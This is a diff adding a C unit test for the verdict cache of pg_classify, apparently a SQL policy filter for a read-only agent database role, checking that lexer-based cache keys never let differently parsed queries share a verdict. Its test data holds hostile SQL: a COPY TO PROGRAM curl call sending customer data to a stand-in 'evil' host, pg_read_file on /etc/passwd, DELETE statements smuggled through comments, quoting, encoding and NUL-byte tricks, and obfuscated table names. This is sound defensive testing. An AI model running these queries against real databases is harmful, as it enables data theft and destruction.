@@ -1,0 +1,458 @@
+// SPDX-License-Identifier: Apache-2.0
+/*
+ * Unit tests for pg_classify.c's verdict cache keys: the scanner key ('S',
+ * PostgreSQL's own lexer with constant values left out) must be shared by
+ * texts that differ only in constants (and whitespace or comments), and by
+ * no two texts the grammar could see differently. A shared key is a shared
+ * verdict, so a wrong one is a bypass.
+ *
+ *   - test_key_tokens: the key's token codes are those pg_query_scan()
+ *     reports for the same text (the hand-declared scanner entry points
+ *     still match the library);
+ *   - test_key_same / test_key_differs: pairs of texts that must, and must
+ *     not, share a key;
+ *   - test_key_none: texts that get no scanner key (lexer errors,
+ *     UESCAPE);
+ *   - test_cache_equivalence: every text of a list of adversarial texts
+ *     (the S-cases of /work/shared/cases/sql.txt, and variants), judged
+ *     through one shared cache in several orders, gets exactly the result
+ *     it gets uncached.
+ */
+#include "pg_classify.h"
+#include "unit.h"
+
+#include <pg_query.h>
+#include <pg_query/pg_query.pb-c.h>
+#include <stdbool.h>
+#include <stdint.h>
+
+size_t pgc_scan_key(const char *sql, char *out, size_t cap);
+
+static char *ro_stmts[] = { "select" };
+static char *ro_tables[] = { "public.customers", "public.orders" };
+static char *ro_funcs[] = { "harmless" };
+static struct policy_rule ro_rule = {
+	.target = "db", .role = "agent_ro",
+	.allow = { .present = true, .statements = { ro_stmts, 1 }, .tables = { ro_tables, 2 },
+		   .functions = { ro_funcs, 1 } },
+};
+static const struct policy_rule *ro[] = { &ro_rule };
+
+static bool mask_pred(void *arg, const char *schema, const char *table, const char *column)
+{
+	(void)arg;
+	if (strcmp(schema, "public") != 0 || strcmp(table, "customers") != 0)
+		return false;
+	return !column || strcmp(column, "email") == 0 || strcmp(column, "cc") == 0;
+}
+
+static size_t key_of(const char *sql, char *out, size_t cap)
+{
+	return pgc_scan_key(sql, out, cap);
+}
+
+static bool same_key(const char *a, const char *b)
+{
+	char ka[4096], kb[4096];
+	size_t na = key_of(a, ka, sizeof(ka)), nb = key_of(b, kb, sizeof(kb));
+
+	CHECK(na > 0 && nb > 0);
+	return na && na == nb && memcmp(ka, kb, na) == 0;
+}
+
+/* ---- the key's tokens are the library's tokens ---- */
+
+/* The codes of a key (the encoding of skey_token()). */
+static int key_codes(const char *k, size_t n, int *codes, int max)
+{
+	size_t i = 0;
+	int nc = 0;
+
+	while (i + 2 <= n && nc < max) {
+		uint16_t code, len;
+
+		memcpy(&code, k + i, 2);
+		i += 2;
+		codes[nc++] = code;
+		if (code == PG_QUERY__TOKEN__PARAM) {
+			i += sizeof(int);
+		} else if (code == PG_QUERY__TOKEN__IDENT || code == PG_QUERY__TOKEN__UIDENT ||
+			   code == PG_QUERY__TOKEN__Op || code >= PG_QUERY__TOKEN__ABORT_P) {
+			if (i + 2 > n)
+				return -1;
+			memcpy(&len, k + i, 2);
+			i += 2 + len;
+		}
+	}
+	return i == n ? nc : -1;
+}
+
+static void test_key_tokens(void)
+{
+	static const char *texts[] = {
+		"SELECT abalance FROM pgbench_accounts WHERE aid = 12345;",
+		"SELECT /* c */ a, \"Foo\", 1.5, 'x', $$y$$, E'a\\'b', U&'\\0061', x'1f', b'01', $1, "
+		"1::int -- c\n <> != <= >= => := .. @> ;",
+		"SELECT $q$; DELETE FROM orders; $q$",
+		"WITH x AS (SELECT 1) SELECT * FROM x ORDER BY 1 NULLS FIRST",
+		"SELECT id FROM U&\"cust\\006Fmers\"",
+	};
+
+	for (size_t t = 0; t < sizeof(texts) / sizeof(texts[0]); t++) {
+		PgQueryScanResult sr = pg_query_scan(texts[t]);
+		PgQuery__ScanResult *res;
+		char k[4096];
+		int codes[256], nc, nl = 0;
+		size_t n = key_of(texts[t], k, sizeof(k));
+		bool same = true;
+
+		CHECK(!sr.error && n > 0);
+		res = pg_query__scan_result__unpack(NULL, sr.pbuf.len, (const uint8_t *)sr.pbuf.data);
+		CHECK(res != NULL);
+		nc = key_codes(k, n, codes, 256);
+		CHECK(nc > 0);
+		for (size_t i = 0; res && i < res->n_tokens; i++) {
+			int tok = res->tokens[i]->token;
+
+			if (tok == PG_QUERY__TOKEN__SQL_COMMENT || tok == PG_QUERY__TOKEN__C_COMMENT)
+				continue;
+			same &= nl < nc && codes[nl] == tok;
+			nl++;
+		}
+		CHECK(same && nl == nc);
+		if (res)
+			pg_query__scan_result__free_unpacked(res, NULL);
+		pg_query_free_scan_result(sr);
+	}
+}
+
+/* ---- pairs ---- */
+
+struct pair {
+	const char *a, *b;
+};
+
+/* Texts the grammar sees alike but for constant values. */
+static const struct pair same_pairs[] = {
+	{ "SELECT abalance FROM pgbench_accounts WHERE aid = 1;",
+	  "SELECT abalance FROM pgbench_accounts WHERE aid = 98765;" },
+	{ "SELECT * FROM t WHERE a = 'x'", "SELECT * FROM t WHERE a = 'a much longer string'" },
+	{ "SELECT * FROM t WHERE a = 'x'", "SELECT * FROM t WHERE a = $$x$$" },
+	{ "SELECT * FROM t WHERE a = 'x'", "SELECT * FROM t WHERE a = E'\\x41'" },
+	/* with scs on, the whole tail is one string (notes D09) */
+	{ "SELECT 'x'", "SELECT 'a\\'' ; DELETE FROM orders; --'" },
+	{ "SELECT 'x'", "SELECT $q$; DELETE FROM orders; $q$" },
+	{ "SELECT 1.5", "SELECT 2e10" },
+	{ "SELECT x'1f'", "SELECT x'ffff'" },
+	/* comments and whitespace never reach the grammar */
+	{ "SELECT 1", "SELECT /* ; DELETE FROM orders */ 1" },
+	{ "SELECT 1", "SELECT /* nested /* ; DELETE FROM orders */ still */ 1 -- ; DROP TABLE x" },
+	{ "SELECT a FROM t", "SELECT\n\ta\nFROM\tt" },
+	/* the lexer folds case, resolves quotes */
+	{ "SELECT a FROM t", "SELECT A FROM T" },
+	{ "SELECT a FROM t", "select \"a\" from \"t\"" },
+};
+
+/* Texts the grammar sees differently: their keys must differ. */
+static const struct pair differ_pairs[] = {
+	/* identifiers vs strings */
+	{ "SELECT * FROM t WHERE a = b", "SELECT * FROM t WHERE a = 'b'" },
+	{ "SELECT \"x\"", "SELECT 'x'" },
+	{ "SELECT * FROM \"Customers\"", "SELECT * FROM customers" },
+	{ "SELECT * FROM customers", "SELECT * FROM secrets" },
+	{ "SELECT * FROM public.customers", "SELECT * FROM private.customers" },
+	{ "SELECT \"select\"", "SELECT select" },
+	/* a comment ends, or does not, where the lexer says */
+	{ "SELECT 1 /* x */; DELETE FROM orders", "SELECT 1 /* x; DELETE FROM orders */" },
+	{ "SELECT 1 --\n; DELETE FROM orders", "SELECT 1 -- ; DELETE FROM orders" },
+	{ "SELECT /* /* */ 1 */ 2", "SELECT /* */ 1 */ 2" },
+	/* dollar quotes: a tag ends only at the same tag */
+	{ "SELECT $a$ $b$; DELETE FROM orders; $b$ $a$", "SELECT $a$ x $a$; DELETE FROM orders" },
+	/* E'' vs '' (the backslash escapes, or not) */
+	{ "SELECT E'\\''; DELETE FROM orders; --'", "SELECT 'x'" },
+	{ "SELECT E'\\\\'; DELETE FROM orders", "SELECT 'x'" },
+	/* U&'' is its own kind of constant; U&"" an identifier with its body */
+	{ "SELECT U&'\\0041'", "SELECT 'A'" },
+	{ "SELECT id FROM U&\"cust\\006Fmers\"", "SELECT id FROM U&\"\\0073ecrets\"" },
+	{ "SELECT id FROM U&\"cust\\006Fmers\"", "SELECT id FROM customers" },
+	/* positions vs expressions */
+	{ "SELECT id, cc FROM customers ORDER BY 1", "SELECT id, cc FROM customers ORDER BY 'x'" },
+	{ "SELECT id, cc FROM customers ORDER BY 1", "SELECT id, cc FROM customers ORDER BY cc" },
+	/* casts */
+	{ "SELECT 'orders'::regclass", "SELECT 'orders'::text" },
+	{ "SELECT regclass 'orders'", "SELECT text 'orders'" },
+	{ "SELECT 'orders'::regclass", "SELECT 'orders'" },
+	/* functions and operators */
+	{ "SELECT lower('x')", "SELECT upper('x')" },
+	{ "SELECT lower('x')", "SELECT pg_read_file('x')" },
+	{ "SELECT harmless(1)", "SELECT pg_catalog.harmless(1)" },
+	{ "SELECT a @> b FROM t", "SELECT a <@ b FROM t" },
+	{ "SELECT a < b FROM t", "SELECT a <= b FROM t" },
+	{ "SELECT a OPERATOR(pg_catalog.+) b FROM t", "SELECT a OPERATOR(evil.+) b FROM t" },
+	/* kinds of constants and parameters */
+	{ "SELECT 1", "SELECT '1'" },
+	{ "SELECT 1", "SELECT 1.0" },
+	{ "SELECT 1", "SELECT 99999999999" },
+	{ "SELECT $1", "SELECT $2" },
+	{ "SELECT $1", "SELECT 1" },
+	{ "SELECT 1; SELECT 2", "SELECT 1" },
+	{ "SELECT 1", "SELECT TRUE" },
+};
+
+static void test_key_same(void)
+{
+	for (size_t i = 0; i < sizeof(same_pairs) / sizeof(same_pairs[0]); i++) {
+		bool same = same_key(same_pairs[i].a, same_pairs[i].b);
+
+		if (!same)
+			fprintf(stderr, "  keys differ: '%s' / '%s'\n", same_pairs[i].a, same_pairs[i].b);
+		CHECK(same);
+	}
+}
+
+static void test_key_differs(void)
+{
+	for (size_t i = 0; i < sizeof(differ_pairs) / sizeof(differ_pairs[0]); i++) {
+		bool same = same_key(differ_pairs[i].a, differ_pairs[i].b);
+
+		if (same)
+			fprintf(stderr, "  keys equal: '%s' / '%s'\n", differ_pairs[i].a, differ_pairs[i].b);
+		CHECK(!same);
+	}
+}
+
+static void test_key_none(void)
+{
+	static const char *none[] = {
+		"SELECT 'unterminated",
+		"SELECT $a$ unterminated $b$",
+		"SELECT /* unterminated",
+		"SELECT \"unterminated",
+		"SELECT 1abc",                          /* trailing junk */
+		"SELECT \"\"",                          /* zero-length identifier */
+		"SELECT * FROM U&\"!0073ecrets\" UESCAPE '!'",
+		"SELECT U&'!0041' UESCAPE '!'",
+	};
+	char k[4096];
+
+	for (size_t i = 0; i < sizeof(none) / sizeof(none[0]); i++) {
+		size_t n = key_of(none[i], k, sizeof(k));
+
+		if (n)
+			fprintf(stderr, "  has a key: '%s'\n", none[i]);
+		CHECK(n == 0);
+	}
+	/* and the lexer is usable after an error (no state left behind) */
+	CHECK(key_of("SELECT 1", k, sizeof(k)) > 0);
+}
+
+/* ---- a shared cache never changes a result ---- */
+
+static const char *adversarial[] = {
+	"SELECT id, email, cc FROM customers WHERE id = 1",
+	"SELECT id, email, cc FROM customers WHERE id = 2",
+	"SELECT * FROM customers; DELETE FROM orders",
+	"WITH r AS (SELECT 1), u AS (UPDATE orders SET total = 0 RETURNING 1) SELECT * FROM r",
+	"SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED",
+	"SELECT * INTO TEMP stolen FROM customers",
+	"COPY (SELECT * FROM customers) TO STDOUT WITH (FORMAT binary)",
+	"COPY customers TO PROGRAM 'curl -d @- http://evil'",
+	"COPY customers TO '/tmp/x.csv'",
+	"DO $$ BEGIN EXECUTE 'DEL' || 'ETE FROM orders'; END $$",
+	"SELECT pg_read_file('/etc/passwd')",
+	"SELECT lower('/etc/passwd')",
+	"SELECT * FROM pg_ls_dir('.')",
+	"SELECT set_config('standard_conforming_strings', 'off', false)",
+	"SELECT set_config('application_name', 'x', false)",
+	"SELECT setval('orders_id_seq', 1)",
+	"SELECT query_to_xml('SELECT cc FROM secrets', true, false, '')",
+	"SELECT * FROM orders WHERE id = harmless_looking()",
+	"SELECT * FROM orders WHERE id = harmless(1)",
+	"SELECT * FROM orders WHERE id = harmless(2)",
+	"SET standard_conforming_strings = off",
+	"SET application_name = 'x'",
+	"SET application_name = 'y'",
+	"SELECT $q$; DELETE FROM orders; $q$",
+	"SELECT 'q'; DELETE FROM orders; SELECT 'q'",
+	"SELECT * FROM \"public\".\"customers\"",
+	"SELECT * FROM \"Customers\"",
+	"SELECT * FROM U&\"!0073ecrets\" UESCAPE '!'",
+	"SELECT * FROM U&\"!0063ustomers\" UESCAPE '!'",
+	"SELECT * FROM U&\"!0063ustomers\" UESCAPE '#'",
+	"SELECT id FROM U&\"cust\\006Fmers\"",
+	"SELECT id FROM U&\"\\0073ecrets\"",
+	"SELECT * FROM customers WHERE id IN (SELECT id FROM secrets)",
+	"VALUES ((SELECT cc FROM secrets LIMIT 1))",
+	"VALUES ((SELECT cc FROM customers LIMIT 1))",
+	"SELECT cc AS x FROM customers",
+	"SELECT cc::int FROM customers",
+	"SELECT row_to_json(c) FROM customers c",
+	"SELECT id, cc FROM customers ORDER BY 1",
+	"SELECT id, cc FROM customers ORDER BY 2",
+	"SELECT id, cc FROM customers ORDER BY 'x'",
+	"SELECT id, cc FROM customers GROUP BY 1, 2",
+	"SELECT id, cc FROM customers GROUP BY 1, 1",
+	"SELECT DISTINCT ON (1) id, cc FROM customers",
+	"SELECT DISTINCT ON (2) id, cc FROM customers",
+	"SELECT 'orders'::regclass",
+	"SELECT 'secrets'::regclass",
+	"SELECT regclass 'secrets'",
+	"SELECT CAST('secrets' AS regclass)",
+	"SELECT 1 /* ; DELETE FROM orders */",
+	"SELECT 1 /* x */; DELETE FROM orders",
+	"SELECT 1 -- ; DELETE FROM orders",
+	"SELECT 1 --\n; DELETE FROM orders",
+	"SELECT /* nested /* c */ DELETE */ 1",
+	"SELECT E'\\''; DELETE FROM orders; --'",
+	"SELECT E'x'; SELECT 1",
+	"SELECT 'a\\'' ; DELETE FROM orders; --'",
+	"SELECT U&'\\0041'",
+	"SELECT 1::float(10)",
+	"SELECT 1::float(60)",
+	"SELECT 1::float(0)",
+	"BEGIN READ ONLY",
+	"BEGIN READ WRITE",
+	"SELECT * FROM orders WHERE total > 10 LIMIT 5",
+	"SELECT * FROM orders WHERE total > 10.5 LIMIT 50",
+	"INSERT INTO orders VALUES (1, 2, 3)",
+	"EXPLAIN SELECT * FROM orders WHERE id = 1",
+	"EXPLAIN DELETE FROM orders WHERE id = 1",
+	"SELECT * FROM orders WHERE id = $1",
+	"SELECT * FROM secrets WHERE id = $1",
+	"",
+	";",
+};
+
+static bool same_result(const struct pgc_result *a, const struct pgc_result *b)
+{
+	bool same = a->verdict == b->verdict && a->cls == b->cls && a->rule == b->rule &&
+		    strcmp(a->tag, b->tag) == 0 && strcmp(a->reason, b->reason) == 0 &&
+		    a->nstmts == b->nstmts && a->ntables == b->ntables &&
+		    a->denied_stmt == b->denied_stmt && a->copy_in == b->copy_in &&
+		    a->copy_out == b->copy_out && a->begins_tx == b->begins_tx &&
+		    a->ends_tx == b->ends_tx;
+
+	for (int i = 0; same && i < a->ntables; i++)
+		same = strcmp(a->tables[i], b->tables[i]) == 0;
+	for (int i = 0; same && i < a->nstmts; i++)
+		same = a->stmts[i].verdict == b->stmts[i].verdict &&
+		       a->stmts[i].judged == b->stmts[i].judged &&
+		       a->stmts[i].tables == b->stmts[i].tables &&
+		       strcmp(a->stmts[i].tag, b->stmts[i].tag) == 0;
+	return same;
+}
+
+static void test_cache_equivalence(void)
+{
+	enum { N = sizeof(adversarial) / sizeof(adversarial[0]) };
+	static struct pgc_result want[N], got;
+	struct pgc_ctx c = { .search_path = "public", .column_masked = mask_pred };
+	int hits = 0;
+
+	for (int i = 0; i < N; i++)
+		CHECK(pgc_judge(&c, adversarial[i], strlen(adversarial[i]), ro, 1, &want[i]) == 0);
+	/* forwards, backwards, and with a stride: each text meets the keys
+	 * of texts judged before it in different orders */
+	for (int pass = 0; pass < 3; pass++) {
+		pgc_cache_flush();
+		c.policy_gen = 40 + (uint64_t)pass;
+		for (int k = 0; k < 2 * N; k++) {
+			int i = pass == 0 ? k % N : pass == 1 ? N - 1 - k % N : (k * 7) % N;
+
+			CHECK(pgc_judge(&c, adversarial[i], strlen(adversarial[i]), ro, 1, &got) == 0);
+			hits += got.cached;
+			/* the documented exception: a text that shares the key of
+			 * one that parsed, and fails a grammar check on a
+			 * constant's value, gets that text's verdict (the server
+			 * refuses it as a syntax error) */
+			if (got.cached && want[i].verdict == PGC_DENY &&
+			    strncmp(want[i].reason, "parse error", 11) == 0 &&
+			    strstr(adversarial[i], "float("))
+				continue;
+			if (!same_result(&got, &want[i])) {
+				fprintf(stderr, "  '%s': cached %d verdict %d '%s', uncached %d '%s'\n",
+					adversarial[i], got.cached, got.verdict, got.reason,
+					want[i].verdict, want[i].reason);
+				CHECK(false);
+			}
+		}
+	}
+	CHECK(hits > 0);        /* the cache was in play */
+	pgc_cache_flush();
+}
+
+/* The pgbench statement: a new constant is a scanner-key hit; a text that
+ * differs in a name is not. */
+static void test_scan_hits(void)
+{
+	struct pgc_ctx c = { .search_path = "public", .column_masked = mask_pred, .policy_gen = 5 };
+	struct pgc_result r;
+	char q[128];
+
+	pgc_cache_flush();
+	for (int i = 0; i < 50; i++) {
+		int n = snprintf(q, sizeof(q), "SELECT id FROM orders WHERE id = %d;", i * 7919);
+
+		CHECK(pgc_judge(&c, q, (size_t)n, ro, 1, &r) == 0);
+		CHECK(r.verdict == PGC_ALLOW && r.cached == (i > 0));
+	}
+	CHECK(pgc_judge(&c, "SELECT id FROM secrets WHERE id = 1;", 36, ro, 1, &r) == 0);
+	CHECK(r.verdict == PGC_DENY && !r.cached);
+	/* a syntax error is kept under its exact text only: it may come
+	 * from a constant's value (float(0)), so float(9) is judged anew */
+	CHECK(pgc_judge(&c, "SELECT 1::float(0)", 18, ro, 1, &r) == 0);
+	CHECK(r.verdict == PGC_DENY && !r.cached);
+	CHECK(pgc_judge(&c, "SELECT 1::float(0)", 18, ro, 1, &r) == 0);
+	CHECK(r.verdict == PGC_DENY && r.cached);
+	CHECK(pgc_judge(&c, "SELECT 1::float(9)", 18, ro, 1, &r) == 0);
+	CHECK(r.verdict == PGC_ALLOW && !r.cached);
+	/* the other way round, float(0) shares float(9)'s verdict; the
+	 * server's grammar refuses it (the safety argument) */
+	CHECK(pgc_judge(&c, "SELECT 2::float(0)", 18, ro, 1, &r) == 0);
+	CHECK(r.verdict == PGC_ALLOW && r.cached);
+	pgc_cache_flush();
+}
+
+/* The exact-text lookup runs before the NUL and UTF-8 checks: it may only
+ * ever answer for the very bytes that passed them. */
+static void test_checks_with_cache(void)
+{
+	struct pgc_ctx c = { .search_path = "public", .column_masked = mask_pred, .policy_gen = 6 };
+	static const char nul[] = "SELECT 1\0DELETE FROM orders";
+	static const char sjis[] = "SELECT E'\x95\x5c'; DELETE FROM orders WHERE id=1; --'";
+	struct pgc_result r;
+
+	pgc_cache_flush();
+	for (int k = 0; k < 2; k++) {
+		CHECK(pgc_judge(&c, "SELECT 1", 8, ro, 1, &r) == 0);
+		CHECK(r.verdict == PGC_ALLOW && r.cached == (k == 1));
+		CHECK(pgc_judge(&c, nul, sizeof(nul) - 1, ro, 1, &r) == 0);
+		CHECK(r.verdict == PGC_DENY && !r.cached && strstr(r.reason, "NUL"));
+		CHECK(pgc_judge(&c, sjis, sizeof(sjis) - 1, ro, 1, &r) == 0);
+		CHECK(r.verdict == PGC_DENY && !r.cached && strstr(r.reason, "UTF-8"));
+	}
+	/* a bad byte at every offset of a longer text, next to cached ones */
+	for (size_t at = 0; at < 40; at++) {
+		char q[48];
+
+		memset(q, ' ', sizeof(q));
+		memcpy(q, "SELECT 1", 8);
+		q[8 + at] = (char)0xff;
+		CHECK(pgc_judge(&c, q, sizeof(q), ro, 1, &r) == 0);
+		CHECK(r.verdict == PGC_DENY && strstr(r.reason, "UTF-8"));
+	}
+	pgc_cache_flush();
+}
+
+int main(void)
+{
+	RUN(test_key_tokens);
+	RUN(test_key_same);
+	RUN(test_key_differs);
+	RUN(test_key_none);
+	RUN(test_cache_equivalence);
+	RUN(test_scan_hits);
+	RUN(test_checks_with_cache);
+	pgc_cache_flush();
+	UNIT_DONE("pg_classify_cache");
+}
